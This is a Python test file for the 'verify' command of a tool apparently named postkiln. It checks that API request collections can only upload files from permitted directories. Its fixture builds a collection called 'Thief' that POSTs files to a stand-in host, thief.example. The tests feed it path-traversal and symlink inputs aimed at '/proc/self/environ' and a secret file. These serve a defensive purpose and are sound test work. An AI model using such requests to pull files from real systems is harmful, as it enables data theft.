"""The files that `verify` sends: those the user allows, and no other of the machine."""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from collections.abc import Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

import postkiln

SECRET = "what-is-private"
OUTSIDE = (
    "is in no directory that may be read: it is left out of the request. "
    "--files DIR allows a directory [outside-file]"
)
MISSING = "is missing: it is left out of the request [missing-file]"


@dataclass(frozen=True, slots=True)
class Done:
    """What a run said, and the bodies that it recorded, by the names of the items."""

    status: int
    notices: tuple[str, ...]
    bodies: Mapping[str, bytes]
    record: str


def collection(*paths: str) -> str:
    """A collection that sends each path twice: as the body, and in a form."""
    items: list[dict[str, Any]] = []
    for number, path in enumerate(paths):
        part = {"key": "scan", "type": "file", "src": path}
        bodies = {
            "body": {"mode": "file", "file": {"src": path}},
            "form": {"mode": "formdata", "formdata": [part]},
        }
        for kind, body in bodies.items():
            request = {"method": "POST", "url": "https://thief.example", "body": body}
            items.append({"name": f"{kind} {number}", "request": request})
    return json.dumps({"info": {"name": "Thief"}, "item": items})


def verify(
    here: Path, *arguments: str, stdin: str = "", env: Mapping[str, str] | None = None
) -> Done:
    """Run the command in `here/elsewhere`."""
    record = here / "record.jsonl"
    root = str(Path(postkiln.__file__).parents[1])
    command = [sys.executable, "-m", "postkiln", "verify", *arguments]
    done = subprocess.run(
        [*command, "--record", str(record)],
        cwd=here / "elsewhere",
        env={**os.environ, "PYTHONPATH": root, **(env or {})},
        input=stdin,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    text = record.read_text("utf-8")
    lines = map(json.loads, text.splitlines())
    return Done(
        status=done.returncode,
        notices=tuple(done.stderr.splitlines()),
        bodies={each["key"]: base64.b64decode(each["body_b64"]) for each in lines},
        record=text + done.stdout + done.stderr,
    )


@pytest.fixture
def here(tmp_path: Path) -> Path:
    """`api` has a collection, a file and links; `shared` and `elsewhere` lie beside it."""
    for name in ("api/sub", "shared", "more", "elsewhere"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "secret.txt").write_text(SECRET)
    (tmp_path / "shared" / "a.txt").write_text("shared a")
    (tmp_path / "shared" / "b.txt").write_text("shared b")
    (tmp_path / "more" / "b.txt").write_text("more b")
    (tmp_path / "more" / "c.txt").write_text("more c")
    (tmp_path / "api" / "a.txt").write_text("own a")
    (tmp_path / "api" / "out.txt").symlink_to(tmp_path / "secret.txt")
    (tmp_path / "api" / "out").symlink_to(tmp_path)
    (tmp_path / "api" / "gone.txt").symlink_to(tmp_path / "no such file")
    (tmp_path / "api" / "to_shared.txt").symlink_to(tmp_path / "shared" / "a.txt")
    (tmp_path / "api" / "inner.png").symlink_to(tmp_path / "api" / "a.txt")
    return tmp_path


def write(here: Path, *paths: str) -> str:
    """The collection of these paths as `api/c.json`."""
    place = here / "api" / "c.json"
    place.write_text(collection(*paths))
    return str(place)


def refused(done: Done, *texts: str) -> None:
    """All of them are left out, and said to be so, in both requests of each."""
    assert done.status == 0
    for number, text in enumerate(texts):
        for kind in ("body", "form"):
            assert f"notice: {kind} {number}: {text}" in done.notices
    assert len(done.notices) == 2 * len(texts)
    assert set(done.bodies.values()) == {b""}


def test_nothing_outside_the_collections_directory_is_read(here: Path) -> None:
    paths = [
        "/proc/self/environ",
        "/proc/self/../self/environ",
        "../secret.txt",
        "sub/../../secret.txt",
        "no/such/../../../secret.txt",
        str(here / "secret.txt"),
        f"{here / 'api'}/../secret.txt",
        "out.txt",
        "out/secret.txt",
        "out/api/out/secret.txt",
    ]
    done = verify(here, write(here, *paths), env={"PRIVATE": SECRET})
    refused(done, *(f"the file {path!r} {OUTSIDE}" for path in paths))
    assert SECRET not in done.record
    assert base64.b64encode(SECRET.encode()).decode()[:16] not in done.record


def test_what_is_outside_is_said_to_be_so_whether_it_is_there_or_not(
    here: Path,
) -> None:
    paths = ["../secret.txt", "../gone.txt", "/no/such", "out.txt", "gone.txt", "/"]
    done = verify(here, write(here, *paths))
    refused(done, *(f"the file {path!r} {OUTSIDE}" for path in paths))


def test_a_variable_leads_nowhere_else(here: Path) -> None:
    path = str(here / "secret.txt")
    done = verify(here, write(here, "{{where}}"), "--env-var", f"where={path}")
    refused(done, f"the file {path!r} {OUTSIDE}")


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="Windows has no FIFOs")
def test_only_regular_files_are_opened(here: Path) -> None:
    os.mkfifo(here / "api" / "pipe")  # whoever opened it would wait for ever
    paths = ["pipe", "sub", ".", "no such", "a.txt/b", "a\0b", "\ud800"]
    done = verify(here, write(here, *paths))
    refused(done, *(f"the file {path!r} {MISSING}" for path in paths))


def test_files_below_the_collections_directory_are_read(here: Path) -> None:
    paths = ["a.txt", "sub/../a.txt", str(here / "api" / "a.txt"), "../api/a.txt"]
    (here / "linked").symlink_to(here / "api")
    write(here, *paths)
    for place in (here / "api" / "c.json", here / "linked" / "c.json"):
        done = verify(here, str(place))
        assert (done.status, done.notices) == (0, ())
        for number in range(len(paths)):
            assert done.bodies[f"body {number}"] == b"own a"
            assert b'filename="a.txt"' in done.bodies[f"form {number}"]


def test_a_link_inside_keeps_its_name(here: Path) -> None:
    done = verify(here, write(here, "inner.png"))
    assert (done.status, done.notices) == (0, ())
    assert b'filename="inner.png"' in done.bodies["form 0"]
    assert b"own a" in done.bodies["form 0"]


def test_files_allows_more_directories_in_their_order(here: Path) -> None:
    paths = ["a.txt", "b.txt", "c.txt"]
    where = write(here, *paths)
    allowed = ["--files", str(here / "shared"), "--files", "../more"]
    done = verify(here, where, *allowed)
    assert (done.status, done.notices) == (0, ())
    assert [done.bodies[f"body {n}"] for n in range(3)] == [
        b"own a",
        b"shared b",
        b"more c",
    ]


def test_whatever_leads_into_an_allowed_directory_is_read(here: Path) -> None:
    paths = ["../shared/a.txt", str(here / "shared" / "a.txt"), "to_shared.txt"]
    done = verify(here, write(here, *paths), "--files", "../shared")
    assert (done.status, done.notices) == (0, ())
    assert {done.bodies[f"body {n}"] for n in range(3)} == {b"shared a"}


def test_files_allows_no_more_than_it_says(here: Path) -> None:
    paths = ["../secret.txt", "out.txt", "../shared2/a.txt", "../more/b.txt"]
    (here / "shared2").mkdir()
    (here / "shared2" / "a.txt").write_text(SECRET)
    done = verify(here, write(here, *paths), "--files", "../shared")
    refused(done, *(f"the file {path!r} {OUTSIDE}" for path in paths))


def test_a_collection_of_stdin_has_no_directory(here: Path) -> None:
    (here / "elsewhere" / "a.txt").write_text(SECRET)
    paths = ["a.txt", str(here / "elsewhere" / "a.txt")]
    done = verify(here, "-", stdin=collection(*paths))
    refused(done, *(f"the file {path!r} {OUTSIDE}" for path in paths))
    allowed = verify(here, "-", "--files", ".", stdin=collection(*paths))
    assert (allowed.status, allowed.notices) == (0, ())
    assert allowed.bodies["body 0"] == allowed.bodies["body 1"] == SECRET.encode()


@pytest.mark.parametrize("name", ["no such", "secret.txt"])
def test_files_must_be_a_directory(here: Path, name: str) -> None:
    command = [sys.executable, "-m", "postkiln", "verify", write(here, "a.txt")]
    done = subprocess.run(
        [*command, "--files", str(here / name)],
        env={
            **os.environ,
            "PYTHONPATH": str(Path(postkiln.__file__).parents[1]),
        },
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert done.returncode == 2
    assert "Invalid value for '--files'" in done.stderr
    assert name in done.stderr
